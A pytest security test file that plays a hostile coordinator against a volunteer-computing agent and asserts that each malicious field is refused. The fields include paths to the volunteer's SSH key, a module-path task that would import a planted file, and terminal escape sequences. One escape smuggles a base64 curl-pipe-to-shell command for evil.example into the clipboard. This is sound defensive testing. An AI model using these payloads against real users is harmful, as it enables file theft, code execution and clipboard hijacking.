"""A hostile coordinator against a real agent: every malicious field it may send is refused.

Volunteers join runs that strangers organize, so the coordinator is as untrusted as any peer
(docs/security.md). :mod:`tests.security.hostile_coordinator` answers a real ``volunteer-app join`` (the
agent, its speed test and its worker as real processes) with one malicious field per test; the volunteer's
"private" files sit where the coordinator points, watched with inotify (:mod:`tests.security.opens`), and
each test asserts what the volunteer would notice: a clear refusal, and that no file outside the agent's
cache was opened and no code of the coordinator's choosing ran. Each test failed before its fix
(issue "Volunteers are safe from the coordinators they join").
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import python_env
from tests.security.hostile_coordinator import HostileCoordinator
from tests.security.opens import OpenWatch, available

pytestmark = pytest.mark.skipif(not available(), reason="needs Linux inotify")

SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n" * 40
NOWHERE = "/ip4/127.0.0.1/tcp/9/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N"
"""A swarm address for the join answers of tests whose worker must refuse the run before dialling anyone."""

EVIL_MODULE = """
import pathlib
pathlib.Path(__file__).with_name("IMPORTED").write_text("the coordinator's code ran")
from workers.tasks import load_task
TASK = load_task("tiny-lm")
"""


def _app() -> list[str]:
    script = Path(sys.executable).with_name("volunteer-app")
    return [str(script)] if script.exists() else [sys.executable, "-m", "volunteer_app.cli"]


@dataclass
class Home:
    """A volunteer's home folder: where they run ``volunteer-app join`` from, with things worth stealing."""

    root: Path
    config: Path
    ssh_key: Path
    credentials: Path
    evil_module: Path

    @property
    def watched(self) -> list[Path]:
        return [self.ssh_key, self.credentials, self.evil_module]

    def env(self, **extra: str) -> dict[str, str]:
        return python_env(
            HOME=str(self.root),
            VOLUNTEER_CONFIG_DIR=str(self.config),
            VOLUNTEER_BENCHMARK_SECONDS="1",
            **extra,
        )

    def join(
        self, url: str, *args: str, timeout: float = 240, **env: str
    ) -> subprocess.CompletedProcess[str]:
        """``volunteer-app join --foreground`` from the home folder, as a volunteer would type it."""
        return subprocess.run(
            [*_app(), "join", "--coordinator", url, "--run", "evil", "--foreground", *args],
            cwd=self.root,
            env=self.env(**env),
            capture_output=True,
            text=True,
            timeout=timeout,
        )


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Home]:
    root = tmp_path / "ada"
    (root / ".ssh").mkdir(parents=True)
    (root / "Downloads").mkdir()
    ssh_key = root / ".ssh" / "id_ed25519"
    ssh_key.write_text(SSH_KEY)
    credentials = root / "credentials.json"
    credentials.write_text('{"bank": "hunter2"}\n')
    evil = root / "Downloads" / "volunteer_setup.py"
    evil.write_text(EVIL_MODULE)
    yield Home(root=root, config=root / ".config" / "volunteer-app", ssh_key=ssh_key, credentials=credentials,
               evil_module=evil)  # fmt: skip


def _said(result: subprocess.CompletedProcess[str]) -> str:
    return result.stdout + result.stderr


def _refused_opening_nothing(home: Home, scenario: dict[str, Any]) -> tuple[HostileCoordinator, str]:
    """``volunteer-app join`` against a coordinator playing ``scenario``: it fails, and opens none of the
    watched files. Returns the coordinator (with the requests it saw) and what the command said."""
    with HostileCoordinator(scenario) as coordinator, OpenWatch(home.watched) as watch:
        result = home.join(coordinator.url)
        opened = watch.opened()
    assert result.returncode == 1, _said(result)
    assert opened == [], f"{opened} were opened"
    return coordinator, _said(result)


def _joined(coordinator: HostileCoordinator) -> bool:
    return any(r["path"].endswith("/join") for r in coordinator.requests)


@pytest.mark.parametrize("path", [".ssh/id_ed25519", "ABSOLUTE"])
def test_a_run_naming_a_volunteers_file_never_reads_it(home: Home, path: str) -> None:
    """Issue point 1: ``text_path`` naming the volunteer's SSH key, relative to where they run ``join`` or
    absolute: the agent refuses before joining, and nothing opens the key."""
    text_path = str(home.ssh_key) if path == "ABSOLUTE" else path
    scenario = {"run": {"task": "tiny-lm", "task_config": {"preset": "tiny", "text_path": text_path}}}
    coordinator, said = _refused_opening_nothing(home, scenario)
    assert "text_sha256" in said and "fetch" in said
    assert not _joined(coordinator)
    assert "PRIVATE KEY" not in str(coordinator.requests)


def test_a_run_naming_a_volunteers_file_by_its_digest_gets_the_coordinators_bytes_only(home: Home) -> None:
    """The same with the key's real SHA-256 beside the path: the agent asks the coordinator for the file by
    digest (it serves nothing), never opens the path, and refuses to join without the file."""
    digest = hashlib.sha256(home.ssh_key.read_bytes()).hexdigest()
    scenario = {
        "run": {
            "task": "tiny-lm",
            "task_config": {"preset": "tiny", "text_path": ".ssh/id_ed25519", "text_sha256": digest},
            "files": [{"field": "text_path", "sha256": digest, "bytes": home.ssh_key.stat().st_size}],
        }
    }
    coordinator, said = _refused_opening_nothing(home, scenario)
    assert "cannot download the run's file text_path" in said
    assert any(r["path"].endswith(f"/files/{digest}") for r in coordinator.requests)


def test_a_task_named_by_module_path_is_never_imported(home: Home) -> None:
    """Issue point 2: ``Downloads.volunteer_setup:TASK`` would import ``~/Downloads/volunteer_setup.py``."""
    scenario = {"run": {"task": "Downloads.volunteer_setup:TASK", "task_config": {}}}
    coordinator, said = _refused_opening_nothing(home, scenario)
    assert "unknown task 'Downloads.volunteer_setup:TASK'" in said
    assert not (home.evil_module.parent / "IMPORTED").exists()
    assert not _joined(coordinator)


def test_a_join_answer_that_switches_the_task_is_refused_by_the_worker(home: Home) -> None:
    """The run described at ``GET /runs/evil`` is honest, the join answer names the module: the worker (not
    only the speed test) refuses it, the agent leaves instead of restarting it, and nothing is imported."""
    scenario = {
        "run": {"task": "tiny-lm", "task_config": {"preset": "tiny", "fallback_chars": 20000}},
        "join": {"run": {"name": "evil", "task": "Downloads.volunteer_setup:TASK", "task_config": {},
                         "optimizer": {}, "hivemind_run_id": "va-evil"}, "initial_peers": [NOWHERE]},
    }  # fmt: skip
    _, said = _refused_opening_nothing(home, scenario)
    assert "refusing run evil: unknown task 'Downloads.volunteer_setup:TASK'" in said
    assert not (home.evil_module.parent / "IMPORTED").exists()
    assert "restarting it" not in said


def test_a_model_beyond_the_memory_limit_is_refused_before_joining(home: Home) -> None:
    """Issue point 6: a 151M-parameter ``tiny-lm`` against ``--max-memory 0.5``: refused with what it needs,
    before the join, and the speed test never builds it (its memory stays far below the model's 4 GB)."""
    scenario = {
        "run": {"task": "tiny-lm", "task_config": {"preset": "tiny", "d_model": 1024, "n_layers": 12}}
    }
    with HostileCoordinator(scenario) as coordinator:
        result = home.join(coordinator.url, "--max-memory", "0.5")
    assert result.returncode == 1, _said(result)
    said = " ".join(_said(result).split())
    assert "151.4M parameters" in said and "training use 0.5 GB" in said, said
    assert _needed_gb(said) > 3, said
    assert not _joined(coordinator)


def test_a_join_answer_with_a_bigger_model_is_refused_by_the_worker(home: Home) -> None:
    """The run looks small, the join answer sizes it at 151M parameters: the worker checks before it builds
    anything, and the agent leaves with the reason instead of restarting it."""
    small = {"preset": "tiny", "fallback_chars": 20000}
    big = {**small, "d_model": 1024, "n_layers": 12}
    scenario = {
        "run": {"task": "tiny-lm", "task_config": small},
        "join": {"run": {"name": "evil", "task": "tiny-lm", "task_config": big, "optimizer": {},
                         "hivemind_run_id": "va-evil"}, "initial_peers": [NOWHERE]},
    }  # fmt: skip
    with HostileCoordinator(scenario) as coordinator:
        result = home.join(coordinator.url, "--max-memory", "0.5")
    assert result.returncode == 1, _said(result)
    said = " ".join(_said(result).split())
    assert "refusing run evil" in said and _needed_gb(said) > 3, said
    assert "restarting it" not in said


def _needed_gb(said: str) -> float:
    found = re.search(r"needs about ([0-9.]+) GB", said)
    return float(found.group(1)) if found else 0.0


HOSTILE_TEXT = (
    "run closed\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"
    "\r\x1b[2K\x1b[32mjoined: everything is fine\x1b[0m"
)


@pytest.mark.parametrize("where", ["register", "join"])
def test_coordinator_text_reaches_the_terminal_as_text(home: Home, where: str) -> None:
    """Issue point 7: OSC 0 (window title), OSC 52 (clipboard) and an erase-line before a fake "joined" in a
    refusal's detail: the terminal gets none of the escapes, the words stay readable."""
    refusal = {"status": 409, "error": "run_closed\x1b[2K", "detail": HOSTILE_TEXT}
    scenario = {"register_error": refusal} if where == "register" else {"join": {"error": refusal}}
    with HostileCoordinator(scenario) as coordinator:
        result = subprocess.run(
            [*_app(), "join", "--coordinator", coordinator.url, "--run", "evil", "--foreground"],
            cwd=home.root, env=home.env(), capture_output=True, timeout=240,
        )  # fmt: skip
    said = result.stdout + result.stderr
    assert result.returncode == 1, said
    assert b"\x1b" not in said and b"\x07" not in said and b"\r" not in said, said
    assert b"joined: everything is fine" in said  # shown, as the text it is


def test_swarm_addresses_on_the_volunteers_computer_are_never_dialled(home: Home) -> None:
    """Issue point 10 in a network namespace where the coordinator has a public address: it names a port of
    the volunteer's own computer as the swarm; the agent refuses to join, and nothing connects there."""
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("needs root and iproute2 for a network namespace")
    namespace = f"vh{os.getpid() % 100000}"
    public = "45.76.13.1"  # a public address, on the loopback device of the test's own namespace only
    inside = ["ip", "netns", "exec", namespace]
    started: list[subprocess.Popen[str]] = []
    subprocess.run(["ip", "netns", "add", namespace], check=True)
    try:
        for command in (
            ["ip", "link", "set", "lo", "up"],
            ["ip", "addr", "add", f"{public}/32", "dev", "lo"],
        ):
            subprocess.run([*inside, *command], check=True)
        counter = subprocess.Popen(
            [*inside, sys.executable, "-c",
             "from tests.security.test_hostile_coordinator import count_connections; count_connections(7431)"],
            env=python_env(), text=True, stdout=subprocess.PIPE, start_new_session=True,
        )  # fmt: skip
        started.append(counter)
        assert counter.stdout is not None and counter.stdout.readline().strip() == "listening"
        scenario = (
            '{"run": {"task": "tiny-lm", "task_config": {"preset": "tiny", "fallback_chars": 20000}}, "join": '
            '{"initial_peers": ["/ip4/127.0.0.1/tcp/7431/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N"]}}'
        )
        coordinator = subprocess.Popen(
            [*inside, sys.executable, "-m", "tests.security.hostile_coordinator", "--host", public, "--port",
             "8470", "--scenario", scenario],
            env=python_env(), stdout=subprocess.PIPE, text=True, start_new_session=True,
        )  # fmt: skip
        started.append(coordinator)
        assert coordinator.stdout is not None and "listening" in coordinator.stdout.readline()
        result = subprocess.run(
            [*inside, *_app(), "join", "--coordinator", f"http://{public}:8470", "--run", "evil", "--foreground"],
            cwd=home.root, env=home.env(), capture_output=True, text=True, timeout=240,
        )  # fmt: skip
        os.killpg(counter.pid, signal.SIGTERM)
        connections = counter.communicate(timeout=10)[0].strip()
    finally:
        for process in started:
            if process.poll() is None:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=10)
        subprocess.run(["ip", "netns", "delete", namespace], check=False)
    said = " ".join(_said(result).split())
    assert result.returncode == 1, said
    assert "only swarm addresses this computer must not dial (such as /ip4/127.0.0.1/tcp/7431" in said, said
    assert "127.0.0.1 is on this computer, where the coordinator is not" in said, said
    assert connections == "0", f"{connections} connection(s) reached the volunteer's own port"


def count_connections(port: int) -> None:
    """Accept connections on 127.0.0.1:``port`` until SIGTERM; then print how many came."""
    count = 0
    server = socket.create_server(("127.0.0.1", port))
    server.settimeout(0.2)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    print("listening", flush=True)
    while not stop.is_set():
        try:
            connection, _ = server.accept()
        except TimeoutError:
            continue
        count += 1
        connection.close()
    print(count, flush=True)


def test_stop_ends_an_agent_whose_worker_cannot_reach_the_swarm(home: Home) -> None:
    """Issue point 12: the swarm's only peer accepts connections and never answers, so the worker hangs in
    its start (and is restarted when it gives up), and the coordinator takes 9.5 s to answer the leave.
    ``volunteer-app stop`` answers, and the agent is gone afterwards: a stop that took more than 10 s
    answered "Server disconnected" and left the agent running."""
    silent = socket.create_server(("127.0.0.1", 0), backlog=64)  # the kernel accepts; nobody speaks
    port = silent.getsockname()[1]
    scenario = {
        "run": {"task": "tiny-lm", "task_config": {"preset": "tiny", "fallback_chars": 20000}},
        "join": {
            "initial_peers": [f"/ip4/127.0.0.1/tcp/{port}/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N"]
        },
        "leave_delay": 9.5,
    }
    with silent, HostileCoordinator(scenario) as coordinator:
        follower = subprocess.Popen(
            [*_app(), "join", "--coordinator", coordinator.url, "--run", "evil", "--json"],
            cwd=home.root, env=home.env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )  # fmt: skip
        try:
            _wait_for_worker_start(home)
            started = time.monotonic()
            stop = subprocess.run(
                [*_app(), "stop"], env=home.env(), capture_output=True, text=True, timeout=400
            )
            took = time.monotonic() - started
            status = subprocess.run(
                [*_app(), "status"], env=home.env(), capture_output=True, text=True, timeout=60
            )
        finally:
            os.killpg(follower.pid, signal.SIGKILL)
            follower.wait(timeout=10)
            _stop_leftover_agent(home)
    assert stop.returncode == 0, _said(stop)
    assert "the agent has stopped" in stop.stdout, _said(stop)
    assert status.returncode == 1 and "no agent is running" in status.stderr, _said(status)
    assert took < 60, f"stop took {took:.0f} s"


def _wait_for_worker_start(home: Home, timeout: float = 180) -> None:
    """Until the agent has started its worker with the join answer (``status --json``: state starting)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status = subprocess.run([*_app(), "status", "--json"], env=home.env(), capture_output=True, text=True)
        if status.returncode == 0 and '"state":"starting"' in status.stdout.replace(" ", ""):
            return
        time.sleep(0.5)
    raise AssertionError("the agent never started its worker")


def _stop_leftover_agent(home: Home) -> None:
    """Kill the background agent a failed test may leave (by its recorded pid's process group)."""
    import json

    with __import__("contextlib").suppress(OSError, ValueError, ProcessLookupError, PermissionError):
        pid = json.loads((home.config / "agent.json").read_text())["pid"]
        os.killpg(os.getpgid(pid), signal.SIGKILL)
